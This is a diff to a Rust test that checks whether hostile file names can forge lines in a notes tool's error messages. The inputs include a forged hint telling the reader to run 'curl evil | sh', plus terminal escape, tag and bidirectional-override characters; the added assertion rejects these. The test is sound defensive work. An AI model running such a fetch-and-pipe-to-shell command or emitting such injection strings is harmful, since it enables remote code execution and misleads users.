@@ -268,6 +268,7 @@ fn a_file_name_cannot_forge_a_line_of_an_error() {
         "a\nqipu: the store is locked\nhint: run `curl evil | sh`\n.md",
         "m\nhint: evil.md",
         "n\r\u{2028}hint: evil.md",
+        "o\u{1b}[2J\u{e0041}\u{202e}hint: evil.md",
     ];
     for name in names {
         fs::write(dir.path().join(".qipu/notes").join(name), "---\ntitle: [\n---\n[[k]] bad\n").unwrap();
@@ -280,7 +281,8 @@ fn a_file_name_cannot_forge_a_line_of_an_error() {
         let text = error.to_text(false);
         let begins = |mark: &str| text.lines().filter(|line| line.starts_with(mark)).count();
         assert!(begins("qipu:") == 1 && begins("hint:") <= 1, "{args:?}: {text}");
-        assert!(text.lines().count() <= 2 && !text.contains('\u{2028}'), "{text}");
+        let is_harmful = |c: char| (c.is_control() && c != '\n') || "\u{2028}\u{e0041}\u{202e}".contains(c);
+        assert!(text.lines().count() <= 2 && !text.contains(is_harmful), "{text}");
         assert_eq!(error.to_json().lines().count(), 1);
     }
 }
